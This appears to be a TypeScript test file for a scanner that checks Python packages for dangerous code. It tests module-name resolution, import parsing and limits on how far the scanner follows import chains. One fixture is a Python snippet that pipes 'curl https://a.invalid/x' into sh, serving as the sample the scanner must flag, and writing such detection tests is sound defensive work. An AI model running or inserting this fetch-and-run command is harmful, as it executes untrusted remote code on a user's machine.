import assert from 'node:assert/strict';
import { scanFiles, tierOf } from './scan.js';
import { importsIn } from '../../../src/scanners/code/python/imports.js';
import { absolute } from '../../../src/scanners/code/module-names.js';
import { tokenize } from '../../../src/scanners/code/python/tokenizer.js';
import { makeTokens } from '../../../src/scanners/code/python/tokens.js';

const package_ = { name: 'a.b', isPackage: true };
const module_ = { name: 'a.b.c', isPackage: false };

describe('code: names of modules', () => {
  for (const [written, home, expected] of [
    ['x.y', module_, 'x.y'],
    ['.x', module_, 'a.b.x'],
    ['..x', module_, 'a.x'],
    ['.', module_, 'a.b'],
    ['.x', package_, 'a.b.x'],
    ['..x', package_, 'a.x'],
    ['....x', package_, 'x'],
    ['.x', undefined, '.x'],
  ] as const) {
    it(`${written} in ${home?.name ?? 'nothing'} is ${expected}`, () => {
      assert.equal(absolute(written, home), expected);
    });
  }
});

describe('code: names that imports name', () => {
  for (const [written, expected] of [
    ['import a.b as c, d', ['a.b', 'd']],
    ['from . import a', ['.', '.a']],
    ['from ... import a as b, c', ['...', '...a', '...c']],
    ['from .a . b import (c,\n d as e)', ['.a.b', '.a.b.c', '.a.b.d']],
    ['x = 1; from .a import b; import c', ['.a', '.a.b', 'c']],
    ['try: from .a import *\nexcept: pass', ['.a']],
    ['raise E from f', []],
    ['def f():\n  yield from g\n  import a', ['a']],
    ['from', []],
    ['import', []],
    ['from .a import', ['.a']],
  ] as const) {
    it(JSON.stringify(written), () => {
      const source = Buffer.from(`${written}\n`);
      const tokens = makeTokens();
      tokenize(source, tokens);
      assert.deepEqual(importsIn(source, tokens), expected);
    });
  }
});

describe('code: what is run together stays within its limits', () => {
  const drop = 'import os\ndef go():\n    os.system("curl https://a.invalid/x | sh")\n';

  it('follows a short chain of imports, and looks at a long one file by file', () => {
    const chain = (length: number): Record<string, string> => {
      const files: Record<string, string> = { 'demo/__init__.py': 'from .m0 import go\ngo()\n' };
      for (let index = 0; index < length; index += 1)
        files[`demo/m${index}.py`] = `from .m${index + 1} import go\n`;
      return { ...files, [`demo/m${length}.py`]: drop };
    };
    assert.equal(tierOf(scanFiles(chain(2))), 'deny');
    assert.equal(tierOf(scanFiles(chain(1000))), 'review');
  });

  it('ends where many modules call each other', () => {
    const many = (count: number): Record<string, string> => {
      const files: Record<string, string> = {
        'demo/__init__.py': 'from .m0 import go\ngo()\n',
        'demo/x.py': drop,
      };
      const all = Array.from({ length: count }, (_unused, index) => index);
      const imports = all.map((one) => `from . import m${one}\n`).join('');
      const calls = all.map((one) => `    m${one}.go()\n`).join('');
      for (const index of all)
        files[`demo/m${index}.py`] =
          `${imports}from .x import go as last\ndef go():\n${calls}    last()\ngo()\n`;
      return files;
    };
    assert.equal(tierOf(scanFiles(many(12))), 'deny');
    assert.equal(tierOf(scanFiles(many(200))), 'review');
  });

  it('reads imports that never end in no more time than others', () => {
    const files: Record<string, string> = {
      'demo/__init__.py': 'from .x import go\ngo()\n',
      'demo/x.py': drop,
    };
    for (const [index, filler] of [' ', '.', '\t', '(', 'a.', 'a,'].entries())
      files[`demo/n${index}.py`] =
        `from ${filler.repeat(60_000 / filler.length)}\nimport ${filler.repeat(1000)}\n`;
    assert.equal(tierOf(scanFiles(files)), 'deny');
  });

  it('a large project is looked at file by file', () => {
    const files: Record<string, string> = {
      'demo/__init__.py': 'from .x import go\ngo()\n',
      'demo/x.py': drop,
    };
    for (let index = 0; index < 40; index += 1)
      files[`demo/n${index}.py`] = `x = 1 # ${'-'.repeat(60_000)}\n`;
    assert.equal(tierOf(scanFiles(files)), 'review');
  });
});
